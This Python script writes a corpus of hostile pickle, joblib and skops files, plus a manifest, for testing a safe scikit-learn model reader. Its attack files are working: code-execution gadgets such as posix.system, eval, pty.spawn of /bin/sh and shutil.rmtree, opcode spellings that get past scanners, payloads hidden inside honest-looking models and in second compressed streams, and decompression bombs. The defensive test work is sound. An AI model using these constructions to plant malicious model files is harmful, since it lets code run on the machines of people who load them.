"""Write the hostile corpus: files that attack a reader of scikit-learn's pickle, joblib and skops
files, each small, with a manifest of what the reader must say about it.

    python scripts/hostile_corpus.py OUT_DIR

The classes of attack come from public suites, read for what they test, not copied: CPython's
Lib/test/pickletester.py (every opcode and protocol, bad streams), fickling and picklescan (the
globals an attacker calls, the ways of spelling them that slip past a scanner, the 2025 picklescan
advisories), modelscan, and the CVEs fixed in skops (node types that reach code). Every file is
built here byte by byte or with the standard library's compressors and zipfile: nothing is ever
unpickled, and nothing in this script imports what the files name.

The manifest, OUT_DIR/manifest.json, lists for each file its class, what it does to a reader that
trusts it, and what our reader must answer: `names`, a string its one-line error must contain (the
global a file would call, where it has one), and `kind`, the attack's family for the book's table.
The output is deterministic: zip members carry a fixed date and every compressor a fixed level.
"""

import bz2
import gzip
import io
import json
import lzma
import os
import struct
import sys
import zipfile
import zlib

import lz4.frame

MIB = 1 << 20
# The reader's default data limit (sklearn::MAX_BYTES): bombs and floods claim more than it.
LIMIT = 8 * MIB
ZIP_DATE = (1980, 1, 1, 0, 0, 0)

entries = []
out_dir = None


def write(name, data, kind, does, names=None):
    """Writes one file and its manifest entry."""
    with open(os.path.join(out_dir, name), "wb") as f:
        f.write(data)
    entries.append({"file": name, "kind": kind, "does": does, "names": names})


# ---------------------------------------------------------------------------------------------
# Pickle pieces
# ---------------------------------------------------------------------------------------------

STOP, MARK, TUPLE, REDUCE, BUILD, POP = b".", b"(", b"t", b"R", b"b", b"0"
TUPLE1, TUPLE2, TUPLE3, MEMOIZE, NONE = b"\x85", b"\x86", b"\x87", b"\x94", b"N"
EMPTY_DICT, EMPTY_LIST, SETITEMS, APPENDS = b"}", b"]", b"u", b"e"


def proto(n):
    return b"\x80" + bytes([n])


def s(text):
    """A str: SHORT_BINUNICODE, or BINUNICODE when long."""
    raw = text.encode()
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def binbytes(raw):
    if len(raw) < 256:
        return b"C" + bytes([len(raw)]) + raw
    return b"B" + struct.pack("<I", len(raw)) + raw


def glob(module, name):
    """GLOBAL, as protocols 0 to 3 spell a global."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def stack_glob(module, name):
    """STACK_GLOBAL, as protocol 4 spells it."""
    return s(module) + s(name) + b"\x93"


def binint1(n):
    return b"K" + bytes([n])


def binput(i):
    return b"q" + bytes([i])


def binget(i):
    return b"h" + bytes([i])


def long_binget(i):
    return b"j" + struct.pack("<I", i)


def long_binput(i):
    return b"r" + struct.pack("<I", i)


def call(module, name, *args, spell=stack_glob, protocol=4):
    """A pickle whose value is module.name(*args), args given as pickle pieces."""
    return proto(protocol) + spell(module, name) + MARK + b"".join(args) + TUPLE + REDUCE + STOP


def model(payload_key=None, payload=b"", protocol=4):
    """A LinearRegression of 13 features, as honest as the article's, its state dict built with
    SETITEMS; a `payload` (pickle pieces leaving one value) may sit under `payload_key`."""
    coef = b"".join(struct.pack("<d", 0.5) for _ in range(13))
    array = (
        stack_glob("numpy._core.numeric", "_frombuffer")
        + MARK
        + binbytes(coef)
        + stack_glob("numpy", "dtype") + s("f8") + b"\x89\x88" + TUPLE3 + REDUCE
        + binint1(13) + TUPLE1
        + s("C")
        + TUPLE + REDUCE
    )
    items = s("n_features_in_") + binint1(13) + s("coef_") + array
    items += s("intercept_") + b"G" + struct.pack(">d", 1.5)
    items += s("_sklearn_version") + s("1.9.1")
    if payload_key is not None:
        items += s(payload_key) + payload
    return (
        proto(protocol)
        + stack_glob("sklearn.linear_model._base", "LinearRegression")
        + b")\x81"  # EMPTY_TUPLE, NEWOBJ
        + EMPTY_DICT + MARK + items + SETITEMS + BUILD + STOP
    )


def system_call(command="echo pwned"):
    """Pieces that call posix.system(command), as pickle.dumps writes os.system on Linux."""
    return stack_glob("posix", "system") + s(command) + TUPLE1 + REDUCE


# ---------------------------------------------------------------------------------------------
# Containers
# ---------------------------------------------------------------------------------------------


COMPRESSORS = {
    "zlib": lambda raw, level=3: zlib.compress(raw, level),
    "gzip": lambda raw, level=3: gzip.compress(raw, level, mtime=0),
    "bz2": lambda raw, level=3: bz2.compress(raw, level),
    "lzma": lambda raw, level=3: lzma.compress(raw, format=lzma.FORMAT_ALONE, preset=level),
    "xz": lambda raw, level=3: lzma.compress(raw, format=lzma.FORMAT_XZ, preset=level),
    "lz4": lambda raw, level=3: lz4.frame.compress(raw, compression_level=level,
                                                   content_checksum=True),
}


def zip_of(members, compression=zipfile.ZIP_DEFLATED):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=ZIP_DATE)
            info.compress_type = compression
            with __import__("warnings").catch_warnings():
                __import__("warnings").simplefilter("ignore")  # duplicate names, on purpose
                z.writestr(info, data)
    return buf.getvalue()


def node(module, cls, loader, **fields):
    out = {"__class__": cls, "__module__": module, "__loader__": loader}
    out.update(fields)
    return out


def skops_schema(payload_key=None, payload=None, protocol=2):
    """The schema of a LinearRegression as skops.io.dump writes it, with coef_ in coef.npy."""
    content = {
        "coef_": node("numpy", "ndarray", "NdArrayNode", type="numpy", file="coef.npy"),
        "intercept_": node("builtins", "float", "JsonNode", content="1.5", is_json=True),
        "n_features_in_": node("builtins", "int", "JsonNode", content="13", is_json=True),
    }
    if payload_key is not None:
        content[payload_key] = payload
    top = node("sklearn.linear_model._base", "LinearRegression", "ObjectNode",
               content=node("builtins", "dict", "DictNode", content=content,
                            key_types=node("builtins", "list", "ListNode",
                                           content=[node("builtins", "str", "TypeNode")])))
    top["protocol"] = protocol
    top["_skops_version"] = "0.16.0"
    return json.dumps(top).encode()


def npy(values):
    header = "{'descr': '<f8', 'fortran_order': False, 'shape': (%d,), }" % len(values)
    header = header.ljust(118) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + b"".join(
        struct.pack("<d", v) for v in values)


def skops_file(schema, extra=(), compression=zipfile.ZIP_DEFLATED):
    members = [("schema.json", schema), ("coef.npy", npy([0.5] * 13))] + list(extra)
    return zip_of(members, compression)


# ---------------------------------------------------------------------------------------------
# The corpus
# ---------------------------------------------------------------------------------------------


def code_execution():
    """Globals that run code, each a file of its own, spelled the ways pickle and its attackers
    spell them. The list gathers what fickling flags as unsafe, picklescan's denylist and the
    gadgets of its 2025 advisories (functions that reach exec, a shell, a file or the network
    through a module nobody thinks of as dangerous)."""
    gadgets = [
        ("posix", "system", s("echo pwned")),
        ("nt", "system", s("echo pwned")),
        ("os", "system", s("echo pwned")),
        ("os", "popen", s("echo pwned")),
        ("os", "execv", s("/bin/sh") + MARK + s("sh") + b"l"),
        ("subprocess", "Popen", s("echo pwned")),
        ("subprocess", "check_output", s("echo pwned")),
        ("subprocess", "run", s("echo pwned")),
        ("builtins", "eval", s("__import__('os').system('echo pwned')")),
        ("builtins", "exec", s("import os; os.system('echo pwned')")),
        ("builtins", "compile", s("1") + s("<x>") + s("eval")),
        ("builtins", "__import__", s("os")),
        ("builtins", "getattr", s("os") + s("system")),
        ("builtins", "open", s("/tmp/pwned") + s("w")),
        ("builtins", "breakpoint", b""),
        ("runpy", "_run_code", s("print('pwned')") + EMPTY_DICT),
        ("runpy", "run_path", s("/tmp/pwned.py")),
        ("code", "InteractiveInterpreter", b""),
        ("pty", "spawn", s("/bin/sh")),
        ("timeit", "timeit", s("__import__('os').system('echo pwned')")),
        ("cProfile", "run", s("__import__('os').system('echo pwned')")),
        ("profile", "run", s("__import__('os').system('echo pwned')")),
        ("pdb", "run", s("__import__('os').system('echo pwned')")),
        ("bdb", "Bdb", b""),
        ("trace", "Trace", b""),
        ("pydoc", "pipepager", s("pwned") + s("sh")),
        ("webbrowser", "open", s("http://127.0.0.1/pwned")),
        ("shutil", "rmtree", s("/tmp/pwned")),
        ("importlib", "import_module", s("os")),
        ("ctypes", "CDLL", s("libc.so.6")),
        ("pickle", "loads", binbytes(b"\x80\x04cposix\nsystem\n\x8c\x0aecho pwned\x85R.")),
        ("_pickle", "loads", binbytes(b"\x80\x04cposix\nsystem\n\x8c\x0aecho pwned\x85R.")),
        ("marshal", "loads", binbytes(b"\xe3")),
        ("types", "FunctionType", NONE + EMPTY_DICT),
        ("operator", "attrgetter", s("system")),
        ("operator", "methodcaller", s("system") + s("echo pwned")),
        ("functools", "partial", NONE),
        ("asyncio.unix_events", "_UnixSubprocessTransport", b""),
        ("distutils.file_util", "write_file", s("/tmp/pwned") + EMPTY_LIST),
        ("numpy.testing._private.utils", "runstring", s("print('pwned')") + EMPTY_DICT),
        ("numpy", "load", s("/tmp/evil.npy")),
        ("torch", "load", s("/tmp/evil.pt")),
        ("joblib", "load", s("/tmp/evil.joblib")),
        ("idlelib.pyshell", "ModifiedInterpreter", b""),
        ("_io", "FileIO", s("/tmp/pwned") + s("w")),
        ("socket", "create_connection", s("127.0.0.1") + binint1(80) + TUPLE2),
        ("__main__", "Exploit", b""),
    ]
    for i, (module, name, args) in enumerate(gadgets):
        spell = glob if i % 2 else stack_glob
        write(f"call_{module.replace('.', '_')}_{name.strip('_')}.pkl",
              call(module, name, args, spell=spell),
              "a global that runs code",
              f"calls {module}.{name} when unpickled", f"{module}.{name}")

    # The same call, spelled every other way a pickle can spell it.
    write("spell_protocol0.pkl", glob("posix", "system") + b"(S'echo pwned'\ntR.",
          "a global that runs code", "protocol 0: GLOBAL, STRING, TUPLE, REDUCE, no PROTO",
          "posix.system")
    write("spell_protocol1.pkl", glob("posix", "system") + b"(U\x0aecho pwnedtR.",
          "a global that runs code", "protocol 1: binary opcodes, no PROTO", "posix.system")
    write("spell_proto1.pkl", proto(1) + glob("posix", "system") + b"(U\x0aecho pwnedtR.",
          "a global that runs code", "PROTO 1, which Python reads", "posix.system")
    write("spell_inst.pkl", b"(S'echo pwned'\nios\nsystem\n.",
          "a global that runs code", "INST: a class named on a text line, called with the "
          "values above its MARK", "os.system")
    write("spell_obj.pkl", proto(2) + MARK + glob("os", "system") + s("echo pwned") + b"o.",
          "a global that runs code", "OBJ: the callable and its arguments above a MARK",
          "os.system")
    write("spell_text_stack_global.pkl",
          proto(4) + b"Vposix\nVsystem\n\x93" + b"Vecho pwned\n" + TUPLE1 + REDUCE + STOP,
          "a global that runs code", "STACK_GLOBAL whose module and name come from the text "
          "opcode UNICODE", "posix.system")
    write("spell_text_string_global.pkl",
          proto(4) + b"S'posix'\nS\"system\"\n\x93" + s("echo pwned") + TUPLE1 + REDUCE + STOP,
          "a global that runs code", "STACK_GLOBAL from the text opcode STRING, quoted both ways",
          "posix.system")
    write("spell_memo.pkl",
          proto(4) + s("posix") + MEMOIZE + s("system") + MEMOIZE + POP + POP
          + binget(0) + binget(1) + b"\x93" + s("echo pwned") + TUPLE1 + REDUCE + STOP,
          "a global that runs code", "STACK_GLOBAL of strings fetched from the memo",
          "posix.system")
    write("spell_long_memo.pkl",
          proto(4) + s("posix") + long_binput(70000) + POP + s("system") + long_binput(7)
          + POP + long_binget(70000) + long_binget(7) + b"\x93" + s("echo pwned") + TUPLE1
          + REDUCE + STOP,
          "a global that runs code", "memo slots far apart, LONG_BINPUT and LONG_BINGET",
          "posix.system")
    write("spell_newobj.pkl", proto(2) + glob("subprocess", "Popen") + s("echo") + TUPLE1
          + b"\x81" + STOP, "a global that runs code", "NEWOBJ: cls.__new__(cls, *args)",
          "subprocess.Popen")
    write("spell_newobj_ex.pkl", proto(4) + stack_glob("subprocess", "Popen") + s("echo")
          + TUPLE1 + EMPTY_DICT + b"\x92" + STOP, "a global that runs code",
          "NEWOBJ_EX with keyword arguments", "subprocess.Popen")
    write("spell_build_setstate.pkl", proto(4) + stack_glob("__main__", "Evil") + b")\x81"
          + EMPTY_DICT + BUILD + STOP, "a global that runs code",
          "an object whose __setstate__ would run at BUILD", "__main__.Evil")
    framed = system_call() + STOP
    write("spell_framed.pkl", proto(4) + b"\x95" + struct.pack("<Q", len(framed)) + framed, "a global that runs code", "inside a FRAME", "posix.system")
    write("spell_python2_names.pkl", proto(2) + glob("__builtin__", "eval") + s("1") + TUPLE1
          + REDUCE + STOP, "a global that runs code", "Python 2's name for builtins",
          "__builtin__.eval")
    write("spell_dotted_name.pkl", proto(4) + stack_glob("builtins", "getattr.__call__")
          + MARK + TUPLE + REDUCE + STOP, "a global that runs code",
          "a dotted qualified name, resolved attribute by attribute by protocol 4",
          "builtins.getattr.__call__")

    # Where a payload hides in something that looks like a model.
    write("model_with_payload.pkl", model("payload", system_call()),
          "a global that runs code", "an honest LinearRegression with an extra attribute built "
          "by posix.system", "posix.system")
    write("model_payload_in_list.pkl",
          model("extra", EMPTY_LIST + MARK + binint1(1) + system_call() + APPENDS),
          "a global that runs code", "the call inside a list in the model's state",
          "posix.system")
    write("model_payload_as_key.pkl",
          model(None).replace(SETITEMS + BUILD, system_call() + binint1(1) + SETITEMS + BUILD),
          "a global that runs code", "the call as a key of the state dict", "posix.system")
    write("model_then_payload.pkl", model(None) + call("posix", "system", s("echo pwned")),
          "a second pickle after the first", "an honest model, then a second pickle that a "
          "second pickle.load of the same file would run", None)
    write("payload_then_model.pkl", call("posix", "system", s("echo pwned")) + model(None),
          "a global that runs code", "the payload first, an honest model after it",
          "posix.system")
    write("model_persistent_id.pkl", proto(4) + s("evil") + b"Q" + STOP,
          "a reference outside the file", "BINPERSID: an object a persistent_load would fetch",
          "BINPERSID")
    write("model_extension_code.pkl", proto(2) + b"\x82\x01" + s("x") + TUPLE1 + REDUCE + STOP,
          "a reference outside the file", "EXT1: a global from copyreg's extension registry",
          "EXT1")
    write("model_out_of_band.pkl", proto(5) + b"\x97" + STOP,
          "a reference outside the file", "NEXT_BUFFER: a buffer handed over outside the file",
          "NEXT_BUFFER")


def joblib_files():
    """joblib's containers carrying a payload: plain, compressed, across streams, in an object
    array's nested pickle, and joblib's format from before 0.10."""
    hostile = model("payload", system_call())
    write("joblib_raw_payload.joblib", hostile, "a global that runs code",
          "an uncompressed joblib file with the payload in the model's state", "posix.system")
    for name, compress in COMPRESSORS.items():
        write(f"joblib_{name}_payload.joblib", compress(hostile), "a global that runs code",
              f"a {name}-compressed joblib file with the payload", "posix.system")
    # Two streams: the first holds half of the pickle, the second the payload. Python's bz2,
    # lzma and lz4 readers, which joblib uses, go on to the next stream and run it.
    split = len(hostile) // 2
    for name, compress in COMPRESSORS.items():
        write(f"joblib_{name}_two_streams.joblib",
              compress(hostile[:split]) + compress(hostile[split:]),
              "a payload in a second compressed stream",
              f"two {name} streams, the payload in the second", "posix.system")
    # An object array, which joblib writes as a whole nested pickle after its wrapper.
    wrapper_state = (
        EMPTY_DICT + MARK
        + s("subclass") + stack_glob("numpy", "ndarray")
        + s("shape") + binint1(1) + TUPLE1
        + s("order") + s("C")
        + s("dtype") + stack_glob("numpy", "dtype") + s("O8") + b"\x89\x88" + TUPLE3 + REDUCE
        + s("allow_mmap") + b"\x89"
        + SETITEMS
    )
    nested = proto(4) + system_call() + STOP
    names = (
        stack_glob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + wrapper_state
        + BUILD + nested
    )
    write("joblib_object_array_payload.joblib",
          model("feature_names_in_", names), "a global that runs code",
          "feature_names_in_ as joblib writes an object array, a nested pickle that calls "
          "posix.system", "posix.system")
    # joblib before 0.10: `ZF`, the length in hex over 19 bytes, a zlib stream.
    old = proto(2) + glob("posix", "system") + s("echo pwned") + TUPLE1 + REDUCE + STOP
    write("joblib_zfile_payload.joblib",
          b"ZF" + hex(len(old)).encode().ljust(19) + zlib.compress(old, 3),
          "a global that runs code", "joblib's format from before 0.10, which joblib.load "
          "still opens", "posix.system")
    old_arrays = proto(2) + glob("joblib.numpy_pickle", "NDArrayWrapper") + s("a.npy") \
        + TUPLE1 + REDUCE + STOP
    write("joblib_zfile_arrays.joblib",
          b"ZF" + hex(len(old_arrays)).encode().ljust(19) + zlib.compress(old_arrays, 3),
          "a reference outside the file", "joblib before 0.10, its arrays in other files",
          "before joblib 0.10")


def skops_files():
    """skops archives whose schema reaches code, or that hide one schema behind another."""
    eval_node = node("builtins", "eval", "FunctionNode", content={"module_path": "builtins",
                                                                    "function": "eval"})
    write("skops_function_eval.skops", skops_file(skops_schema("fn", eval_node)),
          "a global that runs code", "a FunctionNode of builtins.eval", "builtins.eval")
    write("skops_type_system.skops",
          skops_file(skops_schema("fn", node("posix", "system", "TypeNode"))),
          "a global that runs code", "a TypeNode of posix.system", "posix.system")
    method = node("sklearn.linear_model._base", "LinearRegression", "MethodNode",
                  content={"func": "fit", "obj": json.loads(skops_schema())})
    write("skops_method.skops", skops_file(skops_schema("fn", method)),
          "a global that runs code", "a MethodNode: a bound method of a LinearRegression",
          "MethodNode sklearn.linear_model._base.LinearRegression.fit")
    op = node("_operator", "methodcaller", "OperatorFuncNode",
              content={"attrs": node("builtins", "tuple", "TupleNode", content=[])})
    write("skops_operator.skops", skops_file(skops_schema("fn", op)),
          "a global that runs code", "an OperatorFuncNode of _operator.methodcaller",
          "_operator.methodcaller")
    write("skops_object_exec.skops",
          skops_file(skops_schema("x", node("builtins", "exec", "ObjectNode", content={}))),
          "a global that runs code", "an ObjectNode of builtins.exec", "builtins.exec")
    write("skops_reduce_node.skops",
          skops_file(skops_schema("x", node("posix", "system", "ReduceNode", content={}))),
          "a global that runs code", "a node of a loader skops does not have", "posix.system")
    hostile = skops_schema("fn", node("posix", "system", "TypeNode"))
    write("skops_two_schemas_hostile_first.skops",
          zip_of([("schema.json", hostile), ("schema.json", skops_schema()),
                  ("coef.npy", npy([0.5] * 13))]),
          "one member hidden behind another", "two members named schema.json, the hostile "
          "one first", "schema.json")
    write("skops_two_schemas_hostile_last.skops",
          zip_of([("schema.json", skops_schema()), ("schema.json", hostile),
                  ("coef.npy", npy([0.5] * 13))]),
          "one member hidden behind another", "two members named schema.json, the hostile "
          "one last (the one Python's zipfile reads)", "schema.json")
    write("skops_pickle_inside.skops",
          zip_of([("archive/data.pkl", call("posix", "system", s("echo pwned")))]),
          "a global that runs code", "a zip with a pickle in it and no schema (a PyTorch-style "
          "archive)", "schema.json")
    write("skops_protocol_9.skops", skops_file(skops_schema(protocol=9)),
          "a format from the future", "a skops protocol that does not exist yet", "protocol 9")


def memory():
    """Files that make a careless reader take memory their size does not justify."""
    one_mib = b"\x00" * MIB
    frombuffer = stack_glob("numpy._core.numeric", "_frombuffer")
    dtype = stack_glob("numpy", "dtype") + s("u1") + b"\x89\x88" + TUPLE3 + REDUCE
    # One memoized 1 MiB buffer, handed 4,000 times to _frombuffer: a reader that copies it per
    # call takes 4 GiB. Compressed, as an attacker would send it: the repeats cost nothing.
    head = proto(4) + frombuffer + binput(0) + POP + b"\x8e" + struct.pack("<Q", MIB) + one_mib \
        + binput(1) + POP + dtype + binput(2) + POP + EMPTY_LIST + MARK
    step = binget(0) + MARK + binget(1) + binget(2) + b"M" + struct.pack("<H", 1024) \
        + b"M" + struct.pack("<H", 1024) + TUPLE2 + s("C") + TUPLE + REDUCE
    body = head + step * 4000 + APPENDS + STOP
    write("shared_bytes_frombuffer.joblib", zlib.compress(body, 9), "memory",
          "one memoized 1 MiB bytes handed 4,000 times to _frombuffer")
    reconstruct = stack_glob("numpy._core.multiarray", "_reconstruct")
    head = proto(4) + reconstruct + binput(0) + POP + stack_glob("numpy", "ndarray") + binput(1) \
        + POP + b"\x8e" + struct.pack("<Q", MIB) + one_mib + binput(2) + POP + dtype \
        + binput(3) + POP + EMPTY_LIST + MARK
    step = binget(0) + binget(1) + binint1(0) + TUPLE1 + binbytes(b"b") + TUPLE3 + REDUCE \
        + MARK + binint1(1) + b"J" + struct.pack("<i", MIB) + TUPLE1 + binget(3) + b"\x89" \
        + binget(2) + TUPLE + BUILD
    write("shared_bytes_reconstruct.joblib",
          zlib.compress(head + step * 4000 + APPENDS + STOP, 9), "memory",
          "one 1 MiB buffer handed 4,000 times to _reconstruct and BUILD")
    text = "\x00" * MIB
    head = proto(4) + stack_glob("_codecs", "encode") + binput(0) + POP + s(text) + binput(1) \
        + POP + EMPTY_LIST + MARK
    step = binget(0) + binget(1) + s("latin1") + TUPLE2 + REDUCE
    write("shared_text_codecs_encode.joblib",
          zlib.compress(head + step * 4000 + APPENDS + STOP, 9), "memory",
          "one 1 MiB str encoded 4,000 times by _codecs.encode")
    coef = b"\x00" * (8 * 131072)
    array = frombuffer + MARK + binbytes(coef) + stack_glob("numpy", "dtype") + s("f8") \
        + b"\x89\x88" + TUPLE3 + REDUCE + b"J" + struct.pack("<i", 131072) + TUPLE1 + s("C") \
        + TUPLE + REDUCE
    head = proto(4) + stack_glob("sklearn.linear_model._base", "LinearRegression") + b")\x81" \
        + EMPTY_DICT + MARK + s("coef_") + binput(0) + array + binput(1)
    step = binget(0) + binget(1)
    write("repeated_key.joblib",
          zlib.compress(head + step * 200_000 + SETITEMS + BUILD + STOP, 9), "memory",
          "a state dict that names coef_ 200,000 times, each time a 1 MiB array")
    write("memoize_flood.joblib", zlib.compress(proto(4) + NONE + MEMOIZE * (7 * MIB) + STOP, 9),
          "memory", "seven million MEMOIZEs of one value")
    write("memoize_flood_past_limit.joblib",
          zlib.compress(proto(4) + NONE + MEMOIZE * (20 * MIB) + STOP, 9), "memory",
          "twenty million MEMOIZEs: more data than the limit")
    write("list_flood.joblib", zlib.compress(proto(4) + (EMPTY_LIST + POP) * (3 * MIB) + NONE + STOP, 9),
          "memory", "three million empty lists, each popped")
    write("list_flood_kept.joblib",
          zlib.compress(proto(4) + EMPTY_LIST + MARK + EMPTY_LIST * (7 * MIB) + APPENDS + STOP, 9),
          "memory", "seven million empty lists in one list")
    write("dict_flood.joblib",
          zlib.compress(proto(4) + EMPTY_DICT + MARK + (NONE + NONE) * (3 * MIB) + SETITEMS + STOP, 9),
          "memory", "three million items in one dict")
    write("stack_flood.joblib", zlib.compress(proto(4) + NONE * (7 * MIB) + STOP, 9),
          "memory", "seven million values left on the stack")
    zeros = b"0," * (3 * MIB)
    schema = b'{"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", ' \
        b'"protocol": 2, "content": {}, "x": [' + zeros + b"0]}"
    write("skops_schema_flood.skops", zip_of([("schema.json", schema)]), "memory",
          "a schema.json of three million numbers, 6 MiB deflated to kilobytes")


def bombs():
    """Small files that decompress to far more than the limit."""
    big = b"\x00" * (2 * LIMIT)
    for name, compress in COMPRESSORS.items():
        write(f"bomb_{name}.joblib", compress(proto(4) + big, 9), "decompression bomb",
              f"a {name} stream of 16 MiB of zeros", "limit")
    write("bomb_skops_deflate.skops",
          zip_of([("schema.json", skops_schema()), ("coef.npy", big)]), "decompression bomb",
          "a skops member that inflates to 16 MiB", "limit")
    write("bomb_skops_bzip2.skops",
          zip_of([("schema.json", skops_schema()), ("coef.npy", big)], zipfile.ZIP_BZIP2),
          "decompression bomb", "a bzip2 skops member that inflates to 16 MiB", "limit")
    write("bomb_lzma_dictionary.joblib",
          b"\x5d" + struct.pack("<I", 1 << 30) + struct.pack("<q", -1)
          + lzma.compress(b"\x80\x04N.", format=lzma.FORMAT_RAW,
                          filters=[{"id": lzma.FILTER_LZMA1, "dict_size": 1 << 20}]),
          "decompression bomb", "an lzma header that asks for a 1 GiB dictionary", None)


def malformed():
    """Files whose lengths lie, whose nesting has no end, or whose numbers overflow."""
    huge = struct.pack("<Q", 1 << 60)
    for opcode, name in ((b"\x8e", "binbytes8"), (b"\x8d", "binunicode8"),
                         (b"\x96", "bytearray8"), (b"\x95", "frame")):
        write(f"lying_{name}.pkl", proto(4) + opcode + huge + STOP, "a lying length",
              f"{name.upper()} claims 2^60 bytes", "truncated")
    write("deep_marks.pkl", proto(4) + MARK * 10_000 + STOP, "nesting",
          "ten thousand MARKs", "deeper")
    write("deep_lists.pkl", proto(4) + EMPTY_LIST * 5000 + b"a" * 4999 + STOP, "nesting",
          "five thousand lists, each in the next", "deeper")
    write("deep_tuples.pkl", proto(4) + b")" + TUPLE1 * 10_000 + STOP, "nesting",
          "ten thousand tuples, each in the next", "deeper")
    write("deep_schema.skops", zip_of([("schema.json", b"[" * 100_000 + b"]" * 100_000)]),
          "nesting", "a schema.json nested 100,000 deep", "schema.json")
    write("self_list.pkl", proto(4) + EMPTY_LIST + binput(0) + binget(0) + b"a" + STOP,
          "a cycle", "a list that holds itself", "a list")
    # An empty coef_ of a dtype whose item is enormous: its size, 0 times the item, fits, and a
    # message that names the dtype must not overflow computing its bits.
    for typestr, what in (("f2305843009213693952", "2^61 bytes"),
                          ("V99999999999999999999", "a count past 2^64"),
                          ("U4611686018427387904", "2^62 characters")):
        coef = stack_glob("numpy._core.numeric", "_frombuffer") + MARK + binbytes(b"") \
            + stack_glob("numpy", "dtype") + s(typestr) + b"\x89\x88" + TUPLE3 + REDUCE \
            + binint1(0) + TUPLE1 + s("C") + TUPLE + REDUCE
        write(f"dtype_{what.replace(' ', '_').replace('^', '')}.pkl",
              model("coef_", coef), "an overflowing number",
              f"an empty coef_ of a numpy dtype whose item is {what}", None)
    shape = stack_glob("numpy._core.numeric", "_frombuffer") + MARK + binbytes(b"\x00" * 8) \
        + stack_glob("numpy", "dtype") + s("f8") + b"\x89\x88" + TUPLE3 + REDUCE \
        + b"\x8a\x08" + struct.pack("<q", 1 << 62) + binint1(4) + TUPLE2 + s("C") + TUPLE + REDUCE
    write("shape_overflow.pkl", model("coef_", shape), "an overflowing number",
          "an array of shape (2^62, 4) over 8 bytes", "_frombuffer")
    write("empty.pkl", b"", "malformed", "no bytes at all", "empty")
    write("garbage.pkl", bytes(range(256)) * 4, "malformed", "bytes of no format", "not a model")
    write("unknown_opcode.pkl", proto(4) + b"\xff" + STOP, "malformed", "a byte that is no opcode",
          "unknown pickle opcode")
    write("no_stop.pkl", proto(4) + NONE, "malformed", "a pickle without its STOP", "STOP")
    write("truncated_model.pkl", model(None)[:-40], "malformed", "an honest model cut short",
          "truncated")
    write("npy_lying_header.skops",
          zip_of([("schema.json", skops_schema()),
                  ("coef.npy", npy([0.5] * 13).replace(b"(13,)", b"(99,)"))]),
          "a lying length", "a .npy member whose header claims more data than it has",
          ".npy")
    stored = bytearray(skops_file(skops_schema(), compression=zipfile.ZIP_STORED))
    stored[stored.rindex(struct.pack("<d", 0.5))] ^= 0x01
    write("zip_bad_crc.skops", bytes(stored), "malformed",
          "a stored skops member changed after its CRC was written", None)


def main():
    global out_dir
    if len(sys.argv) != 2:
        sys.exit("usage: python scripts/hostile_corpus.py OUT_DIR")
    out_dir = sys.argv[1]
    os.makedirs(out_dir, exist_ok=True)
    if os.listdir(out_dir):
        sys.exit(f"{out_dir} is not empty")
    code_execution()
    joblib_files()
    skops_files()
    memory()
    bombs()
    malformed()
    with open(os.path.join(out_dir, "manifest.json"), "w") as f:
        json.dump({"files": entries}, f, indent=1)
        f.write("\n")
    total = sum(os.path.getsize(os.path.join(out_dir, e["file"])) for e in entries)
    print(f"{len(entries)} files, {total} bytes")


if __name__ == "__main__":
    main()
